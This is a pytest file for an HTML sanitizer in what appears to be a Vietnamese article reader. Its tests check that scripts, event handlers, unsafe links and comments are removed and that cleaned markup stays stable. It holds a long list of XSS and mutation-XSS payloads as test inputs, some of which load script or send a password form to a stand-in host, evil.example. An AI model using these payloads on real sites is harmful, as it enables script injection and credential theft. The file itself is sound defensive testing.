"""The last gate: nothing that runs, no text that is code, and what passed once passes unchanged."""

import html
import html.parser

import pytest

from reader.article import Article, Block, BlockKind, clean_html, render
from reader.article.sanitize import clean_inline, clean_marked, clean_table

ALLOWED = {
    "a": {"href"},
    "img": {"src", "alt"},
    "td": {"colspan", "rowspan"},
    "th": {"colspan", "rowspan"},
    "ol": {"start"},
    "li": {"value"},
    "time": {"datetime"},
    "span": {"lang"},
}
TAGS = """a b br em i strong sub sup u table thead tbody tfoot tr th td caption h1 h2 h3 h4 h5 h6 p ul ol li blockquote
figure figcaption img article time span"""


class Watcher(html.parser.HTMLParser):
    """Fails on a tag, attribute or address that the gate must not let through."""

    def handle_starttag(self, tag, attributes):
        assert tag in TAGS.split(), tag
        for name, value in attributes:
            assert name in ALLOWED.get(tag, set()), (tag, name)
            if name in ("href", "src"):
                assert value.startswith(("http://", "https://")), value

    def handle_comment(self, data):
        raise AssertionError(f"comment {data!r}")

    handle_decl = unknown_decl = handle_pi = handle_comment


def watch(markup: str) -> None:
    watcher = Watcher(convert_charrefs=True)
    watcher.feed(markup)
    watcher.close()


ATTACKS = [
    "<script>alert(1)</script>",
    "<script>alert(1)",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://example.vn/a.png" onerror="alert(1)">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="javascript:123">x</a>',
    '<a href="javascript:123/456">x</a>',
    '<a href="JaVaScRiPt:123">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="vbscript:1">x</a>',
    '<a href="//evil.example/">x</a>',
    '<a href="/desk/delete">x</a>',
    '<a href="http:alert(1)">x</a>',
    '<a href="https://user:pass@example.vn/">x</a>',
    '<a href="https://example.vn/" style="position:fixed" target=_blank>x</a>',
    "<iframe src=https://example.vn></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>">không hỗ trợ</iframe>',
    "<svg onload=alert(1)><text>chữ</text></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!DOCTYPE x [<!ENTITY a 'b'>]>&a;",
    "<?php echo 1 ?>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<form action=https://evil.example><input type=password><button>Gửi</button></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<object data=x.swf><embed src=x.swf></object>",
    '<p onclick="alert(1)" style="background:url(javascript:alert(1))" id=x class=y>chữ</p>',
    '<td colspan="9999" rowspan="-1">ô</td>',
    '<li value="1e9">mục</li>',
    "<template><script>alert(1)</script></template>",
    '<a href="https://example.vn/\x00javascript:alert(1)">x</a>',
    "<b" + "\x00" + ">đậm</b>",
    "<!DOCTYPE><script>",
    '<body onload="alert(1)>2">chữ</body>',
    "<frameset><frame src=x></frameset>",
    "<&#0; <&#x202e; <&#55296; &nbsp; &ampx",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
]


@pytest.mark.parametrize("gate", [clean_html, clean_inline, clean_table, clean_marked])
@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_runs_passes(gate, attack):
    for markup in (attack, f"<p>trước {attack} sau</p>", f"<table><tr><td>{attack}</td></tr></table>"):
        cleaned = gate(markup)
        watch(cleaned)
        assert gate(cleaned) == cleaned
        assert clean_html(cleaned) == cleaned


@pytest.mark.parametrize(
    "tag",
    [
        "script",
        "style",
        "noscript",
        "iframe",
        "textarea",
        "title",
        "template",
        "svg",
        "object",
        "video",
        "audio",
        "xmp",
        "select",
    ],
)
def test_text_that_is_code_or_a_fallback_is_never_kept(tag):
    markup = f"<p>trước</p><{tag}>KHÔNG ĐỌC</{tag}><p>sau</p>"
    assert clean_html(markup) == "<p>trước</p><p>sau</p>"


def test_digits_do_not_make_javascript_a_host():
    assert clean_html('<a href="javascript:123">số</a>') == "<a>số</a>"


def test_what_an_article_is_made_of_passes_unchanged():
    markup = (
        '<h2>Mục</h2><p>Chữ <b>đậm</b>, <i>nghiêng</i>, m<sup>2</sup>, CO<sub>2</sub> và <a href="https://example.vn/a?b=1&amp;c=2">liên kết</a>.</p>'
        '<ol><li value="3">ba</li></ol><blockquote><p>trích</p></blockquote>'
        '<table><tbody><tr><th colspan="2">A</th></tr><tr><td>1</td><td>2</td></tr></tbody></table>'
        '<figure><img src="https://example.vn/a.jpg" alt=""><figcaption>ảnh</figcaption></figure>'
    )
    assert clean_html(markup) == markup


def test_text_that_looks_like_markup_stays_text():
    assert clean_inline("5 &lt; 6 &amp; a &lt;b&gt;") == "5 &lt; 6 &amp; a &lt;b&gt;"
    assert clean_inline("a > b") == "a &gt; b"


def test_render_trusts_no_field():
    """An Article may come back from a database or an API: each field passes the gate again."""
    bad = '<script>alert(1)</script><img src=x onerror="alert(1)">'
    blocks = tuple(Block(kind, bad, bad, level=1, ordinal=1, source="javascript:123") for kind in BlockKind)
    markup = render(Article(title=bad, blocks=blocks, unit=bad, author=bad))
    watch(markup)
    assert "alert(1)" not in markup.replace(
        '&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror="alert(1)"&gt;', ""
    )


def test_render_keeps_nested_lists_and_numbers():
    def item(text, level, ordinal=None):
        return Block(BlockKind.LIST_ITEM, text, text, level, ordinal)

    blocks = (item("một", 1, 1), item("a", 2), item("b", 2), item("hai", 1, 2))
    markup = render(Article("Tên", blocks))
    assert markup == (
        '<h1>Tên</h1>\n<ol><li value="1">một<ul><li>a</li><li>b</li></ul></li><li value="2">hai</li></ol>'
    )
    assert clean_html(markup) == markup


@pytest.mark.parametrize("nest", ["<b>", "<div>", "<table><tr><td>", "<ul><li>", "<blockquote>"])
def test_deep_nesting_does_not_hang_the_gate(nest):
    cleaned = clean_html(nest * 3000 + "chữ")
    watch(cleaned)
    assert "chữ" in cleaned


@pytest.mark.parametrize("value", ["vi", "EN", "en-US", "x", "en\nfr", "\"onclick='x'", "", "javascript:1"])
def test_a_mark_of_language_says_one_of_ours_or_nothing(value):
    markup = f'<p><span lang="{html.escape(value)}" style="x" onclick="y">chữ</span></p>'
    assert clean_marked(markup) == "<span>chữ</span>"
    assert clean_inline(markup) == clean_html(markup).replace("<p>", "").replace("</p>", "") == "chữ"
    assert clean_marked('<span lang="en">Facebook</span>') == '<span lang="en">Facebook</span>'
